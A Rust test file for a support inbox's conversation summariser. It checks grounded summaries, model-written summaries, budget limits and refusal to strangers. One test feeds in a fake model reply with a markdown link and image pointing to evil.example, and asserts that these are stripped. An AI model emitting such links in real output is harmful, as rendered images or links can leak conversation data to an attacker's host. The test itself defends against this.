//! What a conversation is about so far, held.

use std::sync::{Arc, Mutex};

use futures::future::BoxFuture;

use super::scene::*;
use crate::access::{AssistantTune, InboxRead};
use crate::assistant::*;
use crate::ids::*;
use crate::inbox;
use crate::jobs::{Work as Task, system};
use crate::world::*;

/// A model that writes one thing, and remembers what it was told.
#[derive(Clone)]
struct Writer(&'static str, Arc<Mutex<Vec<Prompt>>>);

impl Writer {
    fn of(text: &'static str) -> Self {
        Self(text, Arc::default())
    }
}

impl Provider for Writer {
    fn draft_answer<'a>(&'a self, _: &'a Endpoint, _: &'a Ask) -> BoxFuture<'a, Result<Reply, ProviderProblem>> {
        Box::pin(async { Err(ProviderProblem::Away) })
    }

    fn write<'a>(&'a self, _: &'a Endpoint, prompt: &'a Prompt) -> BoxFuture<'a, Result<Reply, ProviderProblem>> {
        self.1.lock().unwrap().push(prompt.clone());
        Box::pin(async { Ok(Reply { text: self.0.to_owned(), tokens_in: 100, tokens_out: 20 }) })
    }
}

async fn asked_for(scene: &Scene, conversation: ConversationId, provider: impl Provider + 'static) -> Summary {
    ask_for_summary(scene.world.tx(bruno()).await, conversation).await.unwrap();
    assert_eq!(read(scene, conversation).await.state, SummaryState::Asked);
    let claim = system::claim(scene.world.desk(), &["summarise"], 1).await.unwrap().remove(0);
    let Task::Summarise { conversation } = claim.work else { panic!("not a summary") };
    scene.assistant(provider).summarise(&claim, conversation).await.unwrap();
    read(scene, conversation).await
}

async fn read(scene: &Scene, conversation: ConversationId) -> Summary {
    summary(&mut scene.world.tx::<InboxRead>(bruno()).await, conversation).await.unwrap().unwrap()
}

#[tokio::test]
async fn a_summary_says_up_to_which_message_it_knows() {
    let scene = Scene::new().await;
    let (parcel, _) = scene.asked("Can I return an item?").await;
    // The answer is still on its way: what can be taken back is not summed up.
    let newest = scene.world.thread(parcel).await.into_iter().find(|it| it.author == inbox::Author::Contact).unwrap();

    let made = asked_for(&scene, parcel, NoProvider).await;

    assert_eq!((made.state, made.model.as_deref()), (SummaryState::Made, Some("grounded")));
    assert!(made.body.contains("Can I return an item?"), "{}", made.body);
    assert_eq!((made.upto.message, made.upto.seq), (Some(newest.id), Some(newest.seq)));
    assert_eq!(scene.said(parcel).await.len(), 1, "the customer is told nothing of it");
}

#[tokio::test]
async fn l_7_a_model_is_told_what_the_customer_saw_and_its_words_lead_nowhere() {
    let scene = Scene::new().await;
    scene.has_model().await;
    let parcel = scene.asks("Where is my parcel?").await;
    inbox::note(scene.world.tx(bruno()).await, parcel, &body("She is a difficult one."), None).await.unwrap();
    let writer = Writer::of("Wants her parcel.\nSee [here](https://evil.example/?d=x) ![x](https://evil.example/p)");

    let made = asked_for(&scene, parcel, writer.clone()).await;

    assert!(made.body.starts_with("Wants her parcel."), "{}", made.body);
    assert!(!made.body.contains("evil.example"), "{}", made.body);
    assert_eq!(made.model.as_deref(), Some("small"));
    let told = writer.1.lock().unwrap()[0].clone();
    assert!(told.data.contains("Where is my parcel?") && !told.data.contains("difficult"), "{}", told.data);
    assert_eq!(scene.spent("workspace").await, 120, "a dollar per million tokens");
    assert_eq!(scene.count("select count(*) from runs where kind = 'summary' and state = 'completed'").await, 1);
}

#[tokio::test]
async fn l_5_over_budget_no_summary_is_made_and_the_last_one_stays() {
    let scene = Scene::new().await;
    scene.has_model().await;
    let parcel = scene.asks("Where is my parcel?").await;
    asked_for(&scene, parcel, Writer::of("Wants her parcel.")).await;
    let limits = Limits::parse(Some(1_000), None, None).unwrap();
    limit(scene.world.tx::<AssistantTune>(claire()).await, limits).await.unwrap();
    let writer = Writer::of("Never written.");

    let failed = asked_for(&scene, parcel, writer.clone()).await;

    assert_eq!((failed.state, failed.reason), (SummaryState::Failed, Some(Reason::Budget)));
    assert_eq!(failed.body, "Wants her parcel.");
    assert_eq!(writer.1.lock().unwrap().len(), 0, "nobody was asked");
    assert_eq!(scene.spent("workspace").await, 120);
}

#[tokio::test]
async fn a_stranger_sums_nothing_up() {
    let scene = Scene::new().await;
    let parcel = scene.asks("Where is my parcel?").await;
    let events = scene.world.events().await.len();

    let refused = ask_for_summary(scene.world.tx(omar()).await, parcel).await;

    assert!(matches!(refused, Err(CannotSummarise::Gone)));
    assert_eq!(scene.world.events().await.len(), events);
}
